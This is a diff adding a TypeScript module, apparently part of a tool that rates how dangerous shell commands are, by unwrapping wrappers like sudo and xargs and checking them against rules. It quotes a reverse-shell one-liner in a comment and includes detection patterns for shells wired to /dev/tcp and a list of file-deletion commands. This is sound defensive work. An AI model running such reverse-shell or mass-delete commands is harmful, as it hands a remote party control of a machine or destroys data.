@@ -1,0 +1,158 @@
+import type { Best } from "./best.js";
+import { redirectHit } from "./redirects.js";
+import { Args, initScript, lookupRule, type Rule } from "./rules/index.js";
+import type { ParsedScript, StdinFeed, Unit } from "./script.js";
+import { type Origin, ScriptIndex } from "./script-index.js";
+import type { Basis } from "./types.js";
+import { joinAll, unwrap } from "./unwrap.js";
+import { baseName, DYNAMIC, type Word } from "./words.js";
+import { classifyOpaque } from "./opaque-rules.js";
+
+/**
+ * Classifies the simple commands of one parsed script: each argv is unwrapped
+ * (sudo, env, xargs, find -exec ...), checked for opaque execution (shells,
+ * interpreters, eval), then looked up in the rule tables; redirects are
+ * checked on their own. Nested script text goes back through `Session.nested`,
+ * which owns the depth and byte budgets.
+ */
+
+/** What a command reads on stdin. */
+export interface StdinCtx {
+  /** Earlier stages of a pipeline write to this command's stdin. */
+  piped: boolean;
+  /** Where the upstream output comes from (a downloader or decoder), if known. */
+  origin: Origin | null;
+  feed: StdinFeed | null;
+  /** Literal text known to arrive on stdin (echoed into the pipe, or a here-doc). */
+  literal: string | null;
+}
+
+export interface Session {
+  rules: ReadonlyMap<string, Rule>;
+  windows: boolean;
+  /** Parse `text` as a script one level deeper and add its findings to `best`. */
+  nested(text: string, best: Best, part: string, stdin: StdinCtx | null): void;
+  /** Classify PowerShell/cmd text one level deeper. */
+  nestedWindows(text: string, best: Best, part: string): void;
+}
+
+/** Wrapper nesting beyond this is treated as unseen. */
+const MAX_UNWRAP = 32;
+
+/** Commands that delete whatever they are handed, when run per input item (xargs rm, find -exec rm). */
+const MASS_DELETE = new Set(["rm", "unlink", "shred", "srm"]);
+
+export interface ArgvCtx {
+  session: Session;
+  index: ScriptIndex;
+  stdin: StdinCtx | null;
+  best: Best;
+  part: string;
+}
+
+export function originBasis(origin: Origin | null, fallback: Basis): Basis {
+  return origin ?? fallback;
+}
+
+/** A script string (-c, eval, su -c ...): parsed again, or opaque when it is only known at run time. */
+export function scriptWord(word: Word, c: ArgvCtx, stdin: StdinCtx | null): void {
+  if (word.dynamic) {
+    const origin = c.index.originOfSubst(word.subst);
+    if (origin !== null || word.value.trim() === DYNAMIC) {
+      c.best.consider(3, originBasis(origin, "dynamic_command"), c.part);
+      if (c.best.done) return;
+    }
+    // Keep the literal skeleton visible: each unknown stretch becomes an expansion.
+    c.session.nested(word.value.replaceAll(DYNAMIC, "${__relay_unknown__}"), c.best, c.part, stdin);
+    return;
+  }
+  c.session.nested(word.value, c.best, c.part, stdin);
+}
+
+export function argvHit(words: Word[], c: ArgvCtx, unwraps: number): void {
+  if (c.best.done) return;
+  const nameWord = words[0];
+  if (nameWord === undefined) return;
+  if (unwraps > MAX_UNWRAP) {
+    c.best.consider(3, "nesting_limit", c.part);
+    return;
+  }
+  if (nameWord.dynamic || nameWord.glob) {
+    // The program that runs is decided at run time ($CMD, $(echo rm), r*m): nothing
+    // we could match is visible, and hiding the name is how rules are dodged.
+    c.best.consider(3, originBasis(c.index.originOfSubst(nameWord.subst), "dynamic_command"), c.part);
+    return;
+  }
+  const path = nameWord.value;
+  let name = baseName(path).toLowerCase();
+  if (c.session.windows && name.endsWith(".exe")) name = name.slice(0, -4);
+  if (name === "") return;
+  const args = words.slice(1);
+  if (classifyOpaque(name, args, c, unwraps)) return;
+  const wrapped = unwrap(name, args);
+  if (wrapped !== null) {
+    if (wrapped.base !== null) c.best.consider(wrapped.base.tier, wrapped.base.basis, c.part);
+    const inner: ArgvCtx = wrapped.stdinConsumed ? { ...c, stdin: null } : c;
+    for (const argv of wrapped.inners) {
+      const innerName = baseName(argv[0]?.value ?? "").toLowerCase();
+      if (wrapped.perItem && MASS_DELETE.has(innerName)) c.best.consider(3, "file_destruction", c.part);
+      argvHit(argv, inner, unwraps + 1);
+    }
+    for (const s of wrapped.scripts) scriptWord(s, inner, inner.stdin);
+    return;
+  }
+  const rule = lookupRule(c.session.rules, name);
+  const parsed = new Args(args);
+  if (rule !== undefined) {
+    const h = rule({ name, path, args: parsed, stdin: c.stdin?.literal ?? null });
+    if (h !== null) c.best.consider(h.tier, h.basis, c.part);
+  }
+  const script = initScript(path, parsed);
+  if (script !== null) c.best.consider(script.tier, script.basis, c.part);
+}
+
+function stdinOf(unit: Unit, index: ScriptIndex, inherited: StdinCtx | null): StdinCtx | null {
+  if (unit.pipe !== null && unit.pipe.stage > 0) {
+    return {
+      piped: true,
+      origin: index.pipeOrigin(unit.pipe),
+      feed: unit.stdin,
+      literal: index.literalUpstream(unit.pipe) ?? feedLiteral(unit.stdin),
+    };
+  }
+  if (unit.stdin !== null) return { piped: false, origin: null, feed: unit.stdin, literal: feedLiteral(unit.stdin) };
+  // The first commands of a nested script (`ssh host sh`, `sudo -s <<EOF`) read what the outer command reads.
+  if (inherited !== null && unit.container < 0 && (unit.pipe === null || unit.pipe.stage === 0)) return inherited;
+  return null;
+}
+
+function feedLiteral(feed: StdinFeed | null): string | null {
+  return feed === null ? null : feed.text;
+}
+
+/** Classify every unit of a parsed script into `best`. */
+export function classifyUnits(script: ParsedScript, session: Session, best: Best, inherited: StdinCtx | null): void {
+  const index = new ScriptIndex(script);
+  for (const unit of script.units) {
+    if (best.done) return;
+    const c: ArgvCtx = { session, index, stdin: stdinOf(unit, index, inherited), best, part: unit.text };
+    argvHit(unit.words, c, 0);
+    for (const r of unit.redirects) {
+      const h = redirectHit(r, unit);
+      if (h !== null) best.consider(h.tier, h.basis, r.text);
+    }
+    if (unit.redirects.length > 0 && unit.words.length > 0) shellNetworkRedirect(unit, best);
+  }
+  for (const fn of index.forkBombs()) best.consider(3, "fork_bomb", fn);
+}
+
+/** `bash -i >& /dev/tcp/host/port 0>&1`: a shell wired to a socket runs whatever the far end sends. */
+function shellNetworkRedirect(unit: Unit, best: Best): void {
+  const name = baseName(unit.words[0]!.value).toLowerCase();
+  if (!/^(?:ba|da|z|k|c|tc|fi)?sh$|^python|^perl|^ruby|^php/.test(name)) return;
+  if (unit.redirects.some((r) => r.target !== null && /^\/dev\/(?:tcp|udp)\//.test(r.target.value))) {
+    best.consider(3, "remote_code", unit.text);
+  }
+}
+
+export { joinAll };
